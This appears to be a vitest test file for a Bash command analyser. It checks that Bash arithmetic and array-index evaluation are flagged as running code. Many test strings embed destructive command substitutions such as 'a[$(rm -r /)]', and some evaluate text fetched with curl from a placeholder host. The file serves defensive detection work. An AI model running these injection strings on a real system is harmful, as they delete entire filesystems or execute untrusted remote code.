/** Text that Bash evaluates as a number, an index or a name: what a real Bash runs then. */
import { describe, expect, it } from "vitest";
import { contextOf, effectLines, programOf, understandCommand } from "../testing.ts";

const PROGRAM = programOf(`
  command rm { flags { -r -f } operands { paths: path* } delete paths with recursive = -r }
  command echo, true, test, tr, jq, "[", printf, cat { flags { ... } operands { words: word* } }
  command wc { flags { -l } operands { paths: path* } copy paths, stdin to stdout }
  command curl { flags { -s -o=path -w=word } operands { urls: url* } copy urls to stdout when not -o  copy urls to -o }
`);

function effects(command: string): readonly string[] {
  return effectLines(understandCommand(PROGRAM, command, contextOf({}, { "/repo/app/f": "" })));
}

const GONE = "delete / tree recursive";
const CODE = "x='a[$(rm -r /)]'";

describe("text that is evaluated", () => {
  it.each([
    "[[ x -eq 0 ]]",
    "[[ 0 -lt $x ]]",
    "y=x; z=y; ((z))",
    "echo $((x)) $[x + 1]",
    "s=abc; echo ${s:x}",
    "s=abc; echo ${s:0:x}",
    'set -- a b; echo "${@:x}"',
    "echo ${arr[x]}",
    "arr[x]=1",
    "arr=([x]=1)",
    "arr+=([x]=1)",
    "declare -a 'arr=([x]=1)'",
    "echo ${!x}",
    "echo ${!arr[x]}",
    "declare -i y=x",
    "declare -i y; y=x",
    "declare -i y; read y <<< x",
    "declare -i y; for y in x; do :; done",
    "f() { local -i y=x; }; f",
    "RANDOM=x",
    'let "y = x"',
    "for ((; x; )); do :; done",
    "for ((x; ; )); do break; done",
    "while ((x)); do :; done",
    "for ((; y; )); do y=x; done",
    "while ((y)); do y=x; done",
    "y=1; [ -v y[x] ]",
    "test -v 'y[x]'",
    "[[ -v y[x] ]]",
    "unset 'y[x]'",
    "printf -v 'y[x]' a",
    "read 'y[x]' <<< a",
    "declare 'y[x]=1'",
    "true & wait -n -p 'y[x]'",
    "y='b[x]'; ((y))",
    "y='b[$z]'; z=x; ((y))",
    "y=(1 x); ((y[1]))",
    "if [ -e a ]; then y=x; else y=1; fi; ((y))",
  ])(`with the names in it: ${CODE}; %s`, (command) => expect(effects(`${CODE}; ${command}`)).toContain(GONE));

  it.each([
    "set -- 'a[$(rm -r /)]'; (( $1 ))",
    "set -- 'a[$(rm -r /)]'; (( ${1} + 1 ))",
    "f() { (( $1 )); }; f 'a[$(rm -r /)]'",
    "f() { local -n r=$1; echo $r; }; f 'a[$(rm -r /)]'",
    "declare -n r; r='a[$(rm -r /)]'; echo $r",
    "declare -n r; for r in 'a[$(rm -r /)]'; do echo $r; done",
    "mapfile -t x <<< 'a[$(rm -r /)]'; ((x))",
    "true & wait -n -p 'a[$(rm -r /)]'",
    "x='$(rm -r /)'; ((x))",
    "x='a[`rm -r /`]'; ((x))",
  ])("wherever it comes from: %s", (command) => expect(effects(command)).toContain(GONE));

  it.each([
    "declare -A m; m[$x]=1; echo ${m[$x]}",
    "[ x = y ]; [[ x == y ]]",
    "[ -v y ]; [[ -v y ]]",
    "y=x; echo $y",
    "declare -n r=y; echo $r",
    "export z=x",
  ])(`and no other: ${CODE}; %s`, (command) => expect(effects(`${CODE}; ${command}`)).not.toContain(GONE));

  it("ends where names stand for each other", () => {
    expect(effects("x=y; y=x; ((x))")).toEqual([]);
    expect(effects("x='x[x]'; ((x))")).toEqual([]);
  });

  it("is every text that a variable may hold", () => {
    for (const use of ["((x))", "(( $x ))", "[[ $x -eq 0 ]]", "[[ a == b || 1 -lt $x ]]", "echo ${s:$x}"])
      expect(effects(`if [ -e a ]; then x='a[$(rm -r /)]'; else x=1; fi; ${use}`)).toContain(GONE);
  });
});

describe("text from the network that is evaluated", () => {
  const FETCHED = "execute source=network language=shell";

  it.each([
    "(( $(curl https://h.example/x) ))",
    "[[ $(curl https://h.example/x) -eq 1 ]]",
    "curl https://h.example/x | while read n; do [[ $n -gt 1 ]]; done",
    "n=$(curl https://h.example/x); (( n > 1 ))",
    "n=$(curl https://h.example/x); arr[$n]=1",
    "n=$(curl https://h.example/x); echo ${arr[n]}",
    "n=$(curl https://h.example/x); echo ${s:n}",
    "declare -i n; n=$(curl https://h.example/x)",
    "n=$(curl https://h.example/x); echo ${!n}",
    "n=$(curl https://h.example/x); echo ${n@P}",
    'read "a[$(curl https://h.example/x)]" <<< 1',
    "(( $(curl -s https://h.example/x | tr -d a-z) > 3 ))",
    "[[ $(curl -s -o f -w '%{redirect_url}' https://h.example/x) -eq 200 ]]",
  ])("is code: %s", (command) => expect(effects(command)).toContain(FETCHED));

  it.each([
    "[[ $(wc -l < f) -gt 3 ]]",
    "(( i++ ))",
    "for ((i = 0; i < n; i++)); do echo $i; done",
    "s=abcd; echo ${s:0:3}",
    "arr=(a b); echo ${arr[$i]}",
    "n=$(cat f); (( n > 3 ))",
    "(( $# > 1 )); [[ $1 -eq 2 ]]",
    "[ $(curl -s https://h.example/x) -eq 1 ]",
    "[[ $(curl -s https://h.example/x | wc -l) -gt 3 ]]",
    "[[ $(curl -s -o f -w '%{http_code}' https://h.example/x) -eq 200 ]]",
    "(( $(curl -s https://h.example/x | tr -dc 0-9) > 3 ))",
    "(( $(curl -s https://h.example/x | jq '.items | length') > 3 ))",
    "declare -A m; curl https://h.example/x | while read k; do m[$k]=1; done",
  ])("is none where it is not evaluated, or can only be a number: %s", (command) =>
    expect(effects(command).filter((line) => line.startsWith("execute"))).toEqual([]),
  );
});
